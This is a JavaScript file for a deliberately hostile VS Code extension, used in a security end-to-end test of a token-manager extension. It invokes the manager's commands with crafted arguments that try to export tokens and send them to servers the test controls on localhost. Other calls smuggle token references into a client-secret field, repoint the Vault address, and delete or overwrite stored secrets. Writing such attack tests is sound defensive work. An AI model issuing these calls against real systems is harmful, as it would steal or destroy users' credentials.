// @ts-check
/**
 * A HOSTILE extension, for the security e2e test only (never shipped). Installed beside MCP Token
 * Manager, it does what any extension may do: call our commands with crafted arguments, and change
 * user settings. Its attacks are written here, not in the test: the test only starts it (command
 * `hostile.attack`) and gives it, through the file named by MCP_TOKENS_E2E_HOSTILE_FILE, the
 * addresses of the servers it "controls" on 127.0.0.1 and paths it may write to.
 *
 * It returns, for every attack, what the command gave back (result or error message), and what it
 * found on the clipboard afterwards, so the test can check that no value ever reached it.
 */
const vscode = require('vscode');
const fs = require('node:fs');

/** @param {string} command @param {unknown} [arg] */
async function call(command, arg) {
  try {
    const result = arg === undefined ? await vscode.commands.executeCommand(command) : await vscode.commands.executeCommand(command, arg);
    return { command, arg, result: result === undefined ? null : result };
  } catch (e) {
    return { command, arg, error: e instanceof Error ? e.message : String(e) };
  }
}

/** @param {any} cfg */
async function attack(cfg) {
  /** @type {any[]} */
  const log = [];
  const run = async (/** @type {string} */ name, /** @type {string} */ command, /** @type {unknown} */ arg) => {
    await vscode.env.clipboard.writeText('hostile-clipboard-marker');
    const r = await call(command, arg);
    log.push({ name, ...r, clipboard: await vscode.env.clipboard.readText() });
  };
  const listed = /** @type {{namespace: string, name: string}[]} */ ((await call('mcpTokens.listTokens', { noUi: true })).result ?? []);
  const keys = listed.map((t) => `${t.namespace}:${t.name}`);
  const first = listed[0];
  const github = { namespace: 'bearer', name: 'github' };

  // --- release: copy, export, move to a backend it controls, send as a client secret ---------------
  await run('copy', 'mcpTokens.copyToken', github);
  await run('copy with flags', 'mcpTokens.copyToken', { ...github, force: true, confirm: false, noUi: true, modal: false });
  await run('copy as forged tree element', 'mcpTokens.copyToken', { treeElement: true, kind: 'token', ...github });
  await run('export all', 'mcpTokens.exportTokens', { keys, file: cfg.exportFile, passphrase: cfg.passphrase });
  await run('export hidden refresh tokens', 'mcpTokens.exportTokens', { keys: ['oauth-refresh:e2e', ...keys], file: cfg.exportFile, passphrase: cfg.passphrase });
  await run('export with flags', 'mcpTokens.exportTokens', { keys, file: cfg.exportFile, passphrase: cfg.passphrase, force: true });
  await vscode.workspace.getConfiguration('mcpTokens').update('vault.address', cfg.vaultUrl, vscode.ConfigurationTarget.Global);
  await run('move to its Vault', 'mcpTokens.moveTokensToBackend', { to: 'vault', keys });
  await run('confirm its Vault', 'mcpTokens.useVault', undefined);
  await run('move to its Vault again', 'mcpTokens.moveTokensToBackend', { to: 'vault', keys });
  await run('resume a move', 'mcpTokens.resumeMigration', undefined);
  await run('sign in with a stored client secret', 'mcpTokens.signIn', { url: cfg.mcpUrl, name: 'hostile', clientId: 'hostile-client', clientSecret: '$<TOKEN:bearer:github>' });
  await run('sign in over the user token', 'mcpTokens.signIn', { url: cfg.mcpUrl, namespace: 'bearer', name: 'github' });
  await run('sign in with a brace reference', 'mcpTokens.signIn', { url: cfg.mcpUrl, name: 'hostile2', clientId: 'hostile-client', clientSecret: '${TOKEN:api-key:openai}' });

  // --- release: Verify sends a value to a service, here to the hostile extension's own host ----------
  const host = cfg.mcpUrl.replace(/\/mcp$/, '');
  await run('verify to its host', 'mcpTokens.verifyToken', { ...github, service: 'generic', url: cfg.mcpUrl, header: 'Authorization: Bearer {{value}}' });
  await run('verify with flags', 'mcpTokens.verifyToken', { ...github, service: 'github', confirm: false });
  await run('point a token at its host', 'mcpTokens.configureVerify', { namespace: 'api-key', name: 'openai', service: 'openai', baseUrl: host });
  await run('verify the repointed token', 'mcpTokens.verifyToken', { namespace: 'api-key', name: 'openai' });
  await run('verify all', 'mcpTokens.verifyAllTokens', undefined);

  // --- irrecoverable: asked every time ---------------------------------------------------------------
  await run('replace the Vault token', 'mcpTokens.setVaultToken', { token: 'hostile-vault-token' });
  await run('replace the AppRole', 'mcpTokens.vaultLogin', { roleId: 'hostile-role', secretId: 'hostile-secret' });

  // --- destroy: may skip the question, but the old value goes to Recently Deleted ------------------
  await run('overwrite', 'mcpTokens.setToken', { ...github, type: 'bearer', value: cfg.hostileValue, overwrite: true });
  await run('rotate to its value', 'mcpTokens.rotateToken', { namespace: 'api-key', name: 'openai', value: cfg.hostileValue });
  await run('restore previous', 'mcpTokens.restorePreviousToken', { namespace: 'api-key', name: 'openai' });
  await run('rotate (generated)', 'mcpTokens.rotateToken', { namespace: 'api-key', name: 'openai' });
  await run('generate over', 'mcpTokens.generateToken', { namespace: 'generic', name: 'deploy', overwrite: true });
  await run('import .env over', 'mcpTokens.importFromEnv', { file: cfg.envFile, variables: { GITHUB_TOKEN: 'bearer:github' }, overwrite: true });
  await run('import crafted export', 'mcpTokens.importTokens', { file: cfg.craftedExport, passphrase: cfg.passphrase, existing: 'overwrite' });
  await run('import decoy export, skipping the decoy', 'mcpTokens.importTokens', { file: cfg.decoyExport, passphrase: cfg.passphrase, existing: 'skip' });
  await run('write a refresh token', 'mcpTokens.setToken', { namespace: 'oauth-refresh', name: 'github', type: 'generic', value: cfg.hostileValue, overwrite: true });
  await run('delete a refresh token', 'mcpTokens.deleteToken', { namespace: 'oauth-refresh', name: 'github', force: true });
  await run('import .env into an internal namespace', 'mcpTokens.importFromEnv', { file: cfg.envFile, variables: { GITHUB_TOKEN: 'oauth-refresh:github' }, overwrite: true });
  await run('import costly export', 'mcpTokens.importTokens', { file: cfg.costlyExport, passphrase: cfg.passphrase, existing: 'overwrite' });
  await run('delete', 'mcpTokens.deleteToken', { ...github, force: true });
  await run('clear all', 'mcpTokens.clearTokens', { force: true });
  if (first) await run('delete as forged tree element', 'mcpTokens.deleteToken', { treeElement: true, kind: 'token', namespace: first.namespace, name: first.name, force: true });

  // --- the trash itself: permanent deletion always asks ---------------------------------------------
  const trash = /** @type {{id: string}[]} */ ((await call('mcpTokens.listRecentlyDeleted', { })).result ?? []);
  for (const t of trash) await run('delete permanently', 'mcpTokens.deleteTokenPermanently', { id: t.id });
  await run('empty Recently Deleted', 'mcpTokens.emptyRecentlyDeleted', undefined);
  await vscode.workspace.getConfiguration('mcpTokens').update('recentlyDeleted.days', 0, vscode.ConfigurationTarget.Global);
  return { listed, trashSeen: trash.length, log };
}

/** @param {vscode.ExtensionContext} context */
function activate(context) {
  context.subscriptions.push(
    vscode.commands.registerCommand('hostile.attack', async () => {
      const file = process.env.MCP_TOKENS_E2E_HOSTILE_FILE;
      if (!file) throw new Error('MCP_TOKENS_E2E_HOSTILE_FILE is not set');
      return attack(JSON.parse(fs.readFileSync(file, 'utf8')));
    }),
  );
}

module.exports = { activate, deactivate() {} };
